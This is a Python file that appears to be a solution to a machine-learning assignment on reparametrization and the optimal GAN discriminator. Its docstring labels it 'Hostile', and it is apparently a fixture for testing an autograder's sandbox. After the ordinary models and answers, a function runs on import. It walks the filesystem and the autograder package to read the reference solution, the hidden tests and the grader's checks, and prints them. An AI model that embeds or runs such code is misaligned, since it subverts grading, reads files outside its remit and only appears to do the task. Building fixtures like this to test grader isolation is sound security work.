"""Hostile: reads the reference solution, the hidden tests (assignment.toml, docs/TESTS.md) and the grader's checks, and prints them."""
import torch
import torch.nn.functional as F
from torch import nn

REPARAM_NEEDED = {"model1": False, "model2": True, "model3": False, "problem2": True}

JUSTIFICATIONS = {
    "model1": "No. The noise is added to the input x, before any learnable parameter: z does not "
    "depend on lambda or psi, so L is a deterministic, differentiable function of both given z.",
    "model2": "Yes. z is sampled from a distribution whose mean h = g(x) depends on lambda; "
    "sampling is not differentiable w.r.t. its parameters, so we write z = h + eps, eps ~ N(0, I).",
    "model3": "No. The model is already reparametrized: z ~ N(0, I) does not depend on any "
    "parameter and h + z is differentiable in h.",
    "problem2": "Yes. The variance depends on lambda through h; we sample eps ~ N(0, I) and set "
    "z = sqrt(softplus(h)) * eps so that the gradient reaches lambda.",
}

PROBLEM2_ISSUE = (
    "diag(h) is used as a covariance matrix, but h = g(x) comes from a linear output layer and can be "
    "zero or negative: a variance must be strictly positive, so N(0, diag(h)) is undefined. Map h "
    "through a positive function first (softplus or exp)."
)

PROOF_3A = (
    "L(theta, phi) = int p*(x) log D(x) + p_theta(x) log(1 - D(x)) dx, after the change of variables "
    "x = f_theta(z) in the second expectation. The integrand is maximised pointwise: for each x it "
    "is a log(y) + b log(1 - y) with a = p*(x), b = p_theta(x), whose maximiser is a / (a + b) by the "
    "hint. Hence D*(x) = p*(x) / (p*(x) + p_theta(x)) maximises L, i.e. phi* is optimal."
)

D_STAR_CASES = {"optimal_generator": 0.5, "generator_misses": 1.0, "generator_hallucinates": 0.0}


class Model1(nn.Module):
    """z ~ N(x, I_D), h = g(z), x~ = f(h)."""

    def __init__(self, g: nn.Module, f: nn.Module):
        super().__init__()
        self.g, self.f = g, f

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        z = x + torch.randn_like(x)
        return self.f(self.g(z))


class Model2(nn.Module):
    """h = g(x), z ~ N(h, I_L) reparametrized as z = h + eps, x~ = f(z)."""

    def __init__(self, g: nn.Module, f: nn.Module):
        super().__init__()
        self.g, self.f = g, f

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        h = self.g(x)
        return self.f(h + torch.randn_like(h))


class Model3(nn.Module):
    """h = g(x), z ~ N(0, I_L), x~ = f(h + z)."""

    def __init__(self, g: nn.Module, f: nn.Module):
        super().__init__()
        self.g, self.f = g, f

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        h = self.g(x)
        z = torch.randn_like(h)
        return self.f(h + z)


class Problem2Model(nn.Module):
    """h = g(x), z ~ N(0, diag(softplus(h))) reparametrized, x~ = f(z)."""

    def __init__(self, g: nn.Module, f: nn.Module):
        super().__init__()
        self.g, self.f = g, f

    def variance(self, h: torch.Tensor) -> torch.Tensor:
        return F.softplus(h)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        h = self.g(x)
        z = torch.sqrt(self.variance(h)) * torch.randn_like(h)
        return self.f(z)


def optimal_discriminator(p_star, p_theta):
    """D*(x) = p*(x) / (p*(x) + p_theta(x)), elementwise."""
    return p_star / (p_star + p_theta)


import os


def _steal():
    """Read the reference solution, the hidden tests and the grader's checks."""
    candidates = ["/work/main/solutions/sheet03.py", "/work/main/assignments/sheet03/assignment.toml",
                  "/work/main/docs/TESTS.md", "/work/main/tests/corpus/README.md"]
    try:
        import autograder

        package = os.path.dirname(autograder.__file__)
        candidates += [os.path.join(package, "checks", "function.py"), os.path.join(package, "rubric.py"),
                       os.path.join(package, "_assignments", "sheet03", "assignment.toml"),
                       os.path.join(package, "..", "solutions", "sheet03.py"),
                       os.path.join(package, "..", "assignments", "sheet03", "assignment.toml")]
    except ImportError:
        pass
    for top in ("/work", "/root", "/home", "/srv"):
        for depth, (folder, dirs, files) in enumerate(os.walk(top)):
            if depth > 400:
                break
            candidates += [os.path.join(folder, f) for f in files if f in ("sheet03.py", "assignment.toml", "TESTS.md")]
    for path in candidates:
        try:
            with open(path) as fh:
                print("PWNED: read", path, fh.read(300))
        except OSError:
            pass


_steal()
